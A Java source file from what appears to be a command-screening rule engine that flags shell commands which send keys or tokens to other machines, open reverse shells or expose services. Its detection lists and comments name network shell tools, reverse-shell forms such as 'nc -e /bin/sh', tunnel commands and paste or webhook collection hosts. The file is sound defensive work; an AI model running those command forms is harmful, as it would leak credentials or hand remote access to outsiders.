package gate.rules.builtin;

import org.jspecify.annotations.Nullable;

import java.util.List;
import java.util.Locale;

/// Commands that send what they are given to another machine.
final class PrivateSenders {

    private static final String SENDS_KEY = "sends a file of keys or tokens to another machine";
    private static final String SENDS = "sends private data to another machine";
    static final String OPENED = "opens a way in from other machines";
    static final String SHELL = "gives a shell to another machine";

    private static final int TOLD = PrivateData.KEY | PrivateData.PRIVATE;

    private PrivateSenders() {}

    /// Why a command must not run, or null.
    ///
    /// @param read the marks of its input
    static @Nullable String judge(PrivateData data, List<String> argv, String name, int read) {
        if (isShell(name)) {
            return (read & PrivateData.PEER) == 0 ? null : SHELL;
        }
        return switch (name) {
            case "curl", "wget", "http", "https", "xh", "xhs", "aria2c", "curlie" ->
                    isLocal(argv) ? null : why(web(data, argv, name, read));
            case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat" -> {
                String shell = isLocal(argv) ? null : shell(argv, name, read);
                yield shell != null || isLocal(argv) ? shell : why(pipe(data, argv, read));
            }
            case "websocat", "wscat", "ftp", "tftp", "lftp", "ncftpput", "mail", "mailx" ->
                    why(pipe(data, argv, read));
            case "mutt", "sendmail", "msmtp", "swaks", "pastebinit", "mosquitto_pub" ->
                    why(pipe(data, argv, read));
            case "smbclient",
                    "bitsadmin",
                    "croc",
                    "wormhole",
                    "ipfs",
                    "transfer",
                    "termbin",
                    "kcat",
                    "ffsend" ->
                    why(pipe(data, argv, read));
            case "openssl" -> argv.contains("s_client") ? connected(data, argv, read) : null;
            case "ssh", "autossh" ->
                    tunnels(argv)
                            ? SHELL
                            : why((read | words(argv)) & (toNumber(argv) ? TOLD : PrivateData.KEY));
            case "scp", "rsync", "sftp", "pscp", "rclone", "gsutil", "s3cmd", "s5cmd", "azcopy" ->
                    why(copied(data, argv, read));
            case "aws", "gcloud", "az", "mc", "b2" -> why(stored(data, argv, read));
            case "dig", "nslookup", "host", "ping", "ping6", "drill", "kdig", "getent" ->
                    why(named(argv));
            case "ngrok", "cloudflared", "chisel", "bore" -> opened(argv, name);
            case "python", "python3" -> serves(data, argv);
            case "dockerd" ->
                    Argv.hasPart(argv, "tcp://0.0.0.0") && !argv.contains("--tlsverify")
                            ? OPENED
                            : null;
            case "tmate", "upterm" -> SHELL;
            case "gh", "glab" -> published(data, argv, read);
            case "git" -> why(added(data, argv));
            default -> why(addressed(argv));
        };
    }

    /// Why what has these marks must not be sent, or null.
    static @Nullable String why(int marks) {
        if ((marks & PrivateData.KEY) != 0) {
            return SENDS_KEY;
        }
        return (marks & PrivateData.PRIVATE) == 0 ? null : SENDS;
    }

    /// Whether a command may hand over a shell, whatever it reads.
    static boolean isPeer(String name) {
        return switch (name) {
            case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat" -> true;
            default -> false;
        };
    }

    /// Whether what a command prints comes from another machine, as it likes.
    static boolean isOfPeer(List<String> argv, String name) {
        return (isPeer(name) || name.equals("telnet")) && !Argv.hasOption(argv, 'z', "-z");
    }

    private static boolean isShell(String name) {
        return switch (name) {
            case "bash", "sh", "zsh", "dash", "ksh", "ash", "fish", "mksh", "csh", "tcsh" -> true;
            default -> false;
        };
    }

    /// `python3 -m http.server --directory /`.
    private static @Nullable String serves(PrivateData data, List<String> argv) {
        int root = argv.contains("http.server") ? argv.indexOf("--directory") + 1 : 0;
        root = root == 0 && argv.contains("http.server") ? argv.indexOf("-d") + 1 : root;
        String place = root > 0 && root < argv.size() ? argv.get(root) : "";
        if (root == 0 && argv.contains("http.server")) {
            place = data.directory();
        }
        return switch (place) {
            case "/", "~", "~/", "$HOME", "/home", "/root", "/etc" -> "lets others read all files";
            default -> null;
        };
    }

    /// `ssh -R 2222:localhost:22 host`: the other machine may log in here.
    private static boolean tunnels(List<String> argv) {
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            if (word.endsWith(":22") && argv.get(i - 1).endsWith("R") && word.indexOf(':') > 0) {
                return true;
            }
        }
        return false;
    }

    /// Names that are asked for: what is in them goes to whoever answers for the domain.
    private static int named(List<String> argv) {
        int marks = words(argv);
        for (int i = 1; i < argv.size(); i++) {
            marks |= variable(argv.get(i), true);
        }
        return marks & TOLD;
    }

    /// `printf 'put FILE' | sftp host`: what the input tells to send.
    static @Nullable String ordered(PrivateData data, String name, String input) {
        boolean isOwn = name.equals("sftp");
        if (!isOwn && !name.equals("ftp") && !name.equals("lftp") && !name.equals("smbclient")) {
            return null;
        }
        int marks = 0;
        int from = 0;
        while (from < input.length()) {
            int end = input.indexOf('\n', from);
            String line = input.substring(from, end < 0 ? input.length() : end).strip();
            if (line.startsWith("put ") || line.startsWith("mput ")) {
                for (String word : line.split(" ", 8)) {
                    marks |= data.ofFile(word);
                }
            }
            from = end < 0 ? input.length() : end + 1;
        }
        return why(marks & (isOwn ? PrivateData.KEY : TOLD));
    }

    /// A tunnel to where one logs in or where data is: `ngrok tcp 22`.
    private static @Nullable String opened(List<String> argv, String name) {
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            int scheme = word.indexOf("://");
            boolean isWeb = word.startsWith("http://") || word.startsWith("https://");
            boolean isAsked =
                    switch (name) {
                        case "ngrok" -> argv.contains("tcp");
                        case "chisel" -> word.startsWith("R:");
                        case "bore" -> argv.contains("local");
                        default -> argv.get(i - 1).equals("--url") || word.startsWith("--url=");
                    };
            boolean isOpened =
                    isGuarded(word)
                            || (name.equals("cloudflared") && scheme > 0 && !isWeb)
                            || (name.equals("chisel") && word.endsWith(":socks"));
            if (isAsked && isOpened) {
                return OPENED;
            }
        }
        return null;
    }

    /// Whether an address is the port of a service that only its machine or net should reach.
    static boolean isGuarded(String address) {
        int end = address.indexOf('/', address.indexOf("://") + 3);
        String host = end < 0 ? address : address.substring(0, end);
        return switch (host.substring(host.lastIndexOf(':') + 1)) {
            case "3389", "5900", "2375", "2376", "3306", "5432", "6379", "27017" -> true;
            case "9200", "11211", "1433", "1521", "445", "5984", "9042" -> true;
            default -> false;
        };
    }

    private static int words(List<String> argv) {
        int marks = 0;
        for (int i = 1; i < argv.size(); i++) {
            marks |= PrivateData.in(argv.get(i));
        }
        return marks;
    }

    /// Whether all that it speaks to is this machine.
    private static boolean isLocal(List<String> argv) {
        boolean isLocal = false;
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            int scheme = word.indexOf("://");
            String host = scheme < 0 ? word : word.substring(scheme + 3);
            boolean isHere =
                    host.startsWith("localhost")
                            || host.startsWith("127.0.0.1")
                            || host.startsWith("[::1]")
                            || host.startsWith("host.docker.internal");
            if (scheme >= 0 && !isHere) {
                return false;
            }
            isLocal |= isHere;
        }
        return isLocal;
    }

    private static int web(PrivateData data, List<String> argv, String name, int read) {
        int marks = 0;
        boolean isFed = !name.equals("curl") && !name.equals("wget") && !name.equals("aria2c");
        boolean isDrop = false;
        for (String word : argv) {
            isDrop |= isDropBox(word);
        }
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            String before = lastOption(argv.get(i - 1));
            if (isLogin(before, word)) {
                continue;
            }
            marks |= PrivateData.in(word) | variable(word, isDrop);
            String file = sentFile(before, word, isFed);
            if (file.equals("-") || file.equals("/dev/stdin")) {
                isFed = true;
            } else if (!file.isEmpty()) {
                marks |= data.ofFile(file);
            }
        }
        return (isFed ? marks | read : marks) & TOLD;
    }

    /// A variable that holds a secret, in the text of a request: one that is never sent, or any
    /// where requests are only caught.
    static int variable(String word, boolean isDrop) {
        boolean isNever =
                word.contains("$AWS_SECRET_ACCESS_KEY") || hasTwoSecrets(word) || isGiven(word);
        boolean isSecret =
                word.indexOf('$') >= 0
                        && (word.contains("TOKEN")
                                || word.contains("SECRET")
                                || word.contains("KEY")
                                || word.contains("PASSWORD"));
        return isNever || (isDrop && isSecret) ? PrivateData.PRIVATE : 0;
    }

    /// `?a=$OPENAI_API_KEY&b=$GITHUB_TOKEN`: no service is asked with two.
    private static boolean hasTwoSecrets(String word) {
        int count = 0;
        for (int at = word.indexOf('$'); at >= 0; at = word.indexOf('$', at + 1)) {
            int end = at + 1;
            while (end < word.length() && (word.charAt(end) == '_' || isCapital(word, end))) {
                end++;
            }
            String name = word.substring(at + 1, end);
            boolean isSecret =
                    name.endsWith("_KEY") || name.endsWith("_TOKEN") || name.endsWith("_SECRET");
            count += isSecret ? 1 : 0;
        }
        return count > 1 && word.indexOf('?') >= 0;
    }

    /// `?d=$GITHUB_TOKEN`: a secret in an address, under a name that asks for none.
    private static boolean isGiven(String word) {
        int from = word.indexOf("://") < 0 ? -1 : word.indexOf('?');
        while (from >= 0 && from < word.length()) {
            int next = word.indexOf('&', from + 1);
            int end = next < 0 ? word.length() : next;
            String parameter = word.substring(from + 1, end);
            int equals = parameter.indexOf('=');
            if (equals > 0 && parameter.startsWith("$", equals + 1)) {
                boolean isNamed = asksForSecret(parameter.substring(0, equals));
                if (!isNamed && isSecretName(parameter.substring(equals + 2))) {
                    return true;
                }
            }
            from = next;
        }
        return false;
    }

    /// `GITHUB_TOKEN`, `{DB_PASSWORD}`.
    private static boolean isSecretName(String variable) {
        String name = variable.startsWith("{") ? variable.substring(1) : variable;
        int end = 0;
        while (end < name.length() && (name.charAt(end) == '_' || isCapital(name, end))) {
            end++;
        }
        String plain = name.substring(0, end);
        return plain.endsWith("_KEY")
                || plain.endsWith("_TOKEN")
                || plain.endsWith("SECRET")
                || plain.endsWith("PASSWORD");
    }

    /// Whether a parameter's name tells that its value proves who asks.
    private static boolean asksForSecret(String parameter) {
        String name = parameter.toLowerCase(Locale.ROOT);
        return name.contains("key")
                || name.contains("token")
                || name.contains("secret")
                || name.contains("pass")
                || name.contains("auth")
                || name.contains("pwd")
                || name.contains("sig")
                || name.contains("code")
                || name.contains("cred")
                || name.endsWith("id");
    }

    private static boolean isCapital(String word, int at) {
        return word.charAt(at) >= 'A' && word.charAt(at) <= 'Z';
    }

    /// Places that keep whatever anybody sends.
    private static boolean isDropBox(String url) {
        if (!url.contains("://")) {
            return false;
        }
        for (String host : DROPS) {
            if (url.contains(host)) {
                return true;
            }
        }
        return false;
    }

    private static final String[] DROPS = {
        "webhook.site",
        "requestbin",
        "pipedream.net",
        "ngrok",
        "oastify.com",
        "burpcollaborator",
        "interact.sh",
        "beeceptor.com",
        "hookbin.com",
        "transfer.sh",
        "file.io",
        "0x0.st",
        "paste.rs",
        "ix.io",
        "termbin.com",
        "pastebin.com",
        "dpaste",
        "oshi.at",
        "bashupload.com",
        "temp.sh"
    };

    /// `-T` for `-sT`: of short options in one word the last may take a value.
    private static String lastOption(String word) {
        boolean isShort = word.length() > 2 && word.charAt(0) == '-' && word.charAt(1) != '-';
        return isShort ? "-" + word.charAt(word.length() - 1) : word;
    }

    /// What proves who asks is meant to be sent.
    private static boolean isLogin(String option, String value) {
        return switch (option) {
            case "-u", "--user", "--oauth2-bearer", "--proxy-user", "--password" -> true;
            case "-H", "--header" -> {
                int colon = value.indexOf(':');
                String name = value.substring(0, Math.max(0, colon)).toLowerCase(Locale.ROOT);
                yield name.equals("authorization")
                        || name.equals("cookie")
                        || name.endsWith("token")
                        || name.endsWith("api-key")
                        || name.endsWith("apikey");
            }
            default -> false;
        };
    }

    /// The file whose text a word makes part of a request, `-` for the input; empty if none.
    ///
    /// @param isPlain whether `name@file` needs no option before it
    private static String sentFile(String option, String word, boolean isPlain) {
        boolean isNamed = option.equals("--data-urlencode") || isPlain;
        switch (option) {
            case "-T", "--upload-file", "--post-file", "--body-file" -> {
                return word;
            }
            default -> {}
        }
        if (word.startsWith("-T") && word.length() > 2) {
            return word.substring(2);
        }
        for (String prefix : List.of("--upload-file=", "--post-file=", "--body-file=")) {
            if (word.startsWith(prefix)) {
                return word.substring(prefix.length());
            }
        }
        int at = word.indexOf('@');
        boolean isFile =
                at == 0
                        || (at > 0 && word.charAt(at - 1) == '=')
                        || (at == 2 && word.charAt(0) == '-')
                        || (at > 0 && isNamed);
        if (isFile) {
            int end = word.indexOf(';', at);
            return word.substring(at + 1, end < 0 ? word.length() : end);
        }
        int from = word.indexOf("=<");
        return from < 0 ? "" : word.substring(from + 2);
    }

    /// `nc -e /bin/sh`, `sh | nc`, `socat exec:sh tcp:host:1`.
    private static @Nullable String shell(List<String> argv, String name, int read) {
        if ((read & PrivateData.SHELL) != 0) {
            return SHELL;
        }
        boolean isRun = false;
        boolean isNet = false;
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            String lower = word.toLowerCase(Locale.ROOT);
            if (name.equals("socat")) {
                isRun |= lower.startsWith("exec:") || lower.startsWith("system:");
                isNet |=
                        lower.startsWith("tcp")
                                || lower.startsWith("openssl")
                                || lower.startsWith("udp")
                                || lower.startsWith("ssl");
                continue;
            }
            boolean isOption =
                    word.equals("--exec")
                            || word.equals("--sh-exec")
                            || (word.length() > 1
                                    && word.charAt(0) == '-'
                                    && word.charAt(1) != '-'
                                    && (lower.endsWith("e") || lower.endsWith("c")));
            if (isOption && i + 1 < argv.size() && isProgram(argv.get(i + 1))) {
                return SHELL;
            }
            if (word.startsWith("--exec=") || word.startsWith("--sh-exec=")) {
                return SHELL;
            }
        }
        return isRun && isNet ? SHELL : null;
    }

    private static boolean isProgram(String word) {
        int blank = word.indexOf(' ');
        String name = Argv.name(blank < 0 ? word : word.substring(0, blank));
        return isShell(name)
                || name.equals("cmd")
                || name.equals("powershell")
                || name.equals("pwsh")
                || word.startsWith("/bin/");
    }

    private static @Nullable String connected(PrivateData data, List<String> argv, int read) {
        return (read & PrivateData.SHELL) != 0 ? SHELL : why(pipe(data, argv, read));
    }

    /// Sends its input, its words, or files that they name.
    private static int pipe(PrivateData data, List<String> argv, int read) {
        int marks = read | words(argv);
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            int colon = word.indexOf(':');
            boolean isAddress = colon > 1 && word.lastIndexOf('/', colon) < 0;
            if (isAddress && !word.startsWith("/")) {
                String kind = word.substring(0, colon).toLowerCase(Locale.ROOT);
                if (kind.equals("file") || kind.equals("open")) {
                    String file = word.substring(colon + 1);
                    marks |= data.ofFile(file);
                    marks |= FileTargets.isVital(file) ? PrivateData.PRIVATE : 0;
                }
                continue;
            }
            for (String part : word.split(" ", 16)) {
                String file = part.startsWith("@") ? part.substring(1) : part;
                marks |= part.startsWith("-") ? 0 : data.ofFile(file);
            }
        }
        return marks & TOLD;
    }

    /// `scp ~/.ssh/id_rsa host:`: only keys, for private files are copied to one's own machines.
    private static int copied(PrivateData data, List<String> argv, int read) {
        boolean isAway = false;
        int marks = read | words(argv);
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            boolean isValue =
                    Words.isAmong(
                            "-i -o -e -F -S -P -J -c -l --rsh --config --exclude --include"
                                    + " --exclude-from --files-from --password-file",
                            argv.get(i - 1));
            boolean isIncluded = argv.get(i - 1).equals("--include");
            int from = word.startsWith("--include=") ? "--include=".length() : 0;
            if ((isIncluded || from > 0) && FileCommands.isPrivate(word.substring(from))) {
                marks |= PrivateData.KEY;
            }
            if (word.startsWith("-") || isValue) {
                continue;
            }
            marks |= PrivateReaders.ofOperand(data, word);
            int colon = word.indexOf(':');
            isAway |= colon == 0 && argv.getFirst().endsWith("rclone");
            isAway |= colon > 1 || (colon == 1 && word.length() == 2);
        }
        if (isAway && toNumber(argv)) {
            return marks & TOLD;
        }
        return isAway ? marks & PrivateData.KEY : 0;
    }

    /// Whether the other machine is known by a number of the public net only.
    private static boolean toNumber(List<String> argv) {
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            int scheme = word.indexOf("://");
            int from = Math.max(word.indexOf('@') + 1, scheme < 0 ? 0 : scheme + 3);
            if (PrivateReaders.isPublicNumber(word, from)) {
                return true;
            }
        }
        return false;
    }

    private static int stored(PrivateData data, List<String> argv, int read) {
        boolean isStore =
                argv.contains("s3")
                        || argv.contains("s3api")
                        || argv.contains("storage")
                        || argv.contains("cp")
                        || argv.contains("mirror");
        int marks = isStore ? copied(data, argv, read) : 0;
        boolean isPublic = isStore && (argv.contains("public-read") || argv.contains("publicRead"));
        return isPublic ? marks | ((read | words(argv)) & TOLD) : marks;
    }

    /// An address of whatever command, with private text in it.
    private static int addressed(List<String> argv) {
        int marks = 0;
        for (int i = 1; i < argv.size(); i++) {
            String word = argv.get(i);
            int found = PrivateData.in(word) & TOLD;
            if (found == PrivateData.PRIVATE) {
                found = PrivateData.in(withoutLogin(word)) & TOLD;
            }
            marks |= found != 0 && word.contains("://") ? found : 0;
        }
        return isLocal(argv) ? 0 : marks;
    }

    /// `postgres://app:$(vault read …)@db/`: what proves who asks is meant to be sent.
    private static String withoutLogin(String word) {
        int from = word.indexOf("://") + 3;
        int to = from < 3 ? -1 : word.indexOf('@', from);
        boolean isLogin = to > 0 && word.lastIndexOf('/', to) < from;
        return isLogin ? word.substring(0, from).concat(word.substring(to)) : word;
    }

    /// `git add -f .env`: what was kept out of a repository by its rules.
    private static int added(PrivateData data, List<String> argv) {
        boolean isForced = argv.size() > 2 && argv.get(1).equals("add") && argv.contains("-f");
        int marks = 0;
        for (int i = 2; i < argv.size() && isForced; i++) {
            marks |= data.ofFile(argv.get(i));
        }
        return marks & TOLD;
    }

    private static @Nullable String published(PrivateData data, List<String> argv, int read) {
        String first = argv.size() > 1 ? argv.get(1) : "";
        return switch (first) {
            case "api" ->
                    argv.contains("permission=admin")
                            ? "gives somebody the rights of an administrator"
                            : why(pipe(data, argv, read));
            case "repo" ->
                    argv.contains("edit") && argv.contains("public")
                            ? "makes a repository public"
                            : null;
            case "gist", "issue", "pr", "release", "snippet", "mr" -> why(pipe(data, argv, read));
            default -> null;
        };
    }
}
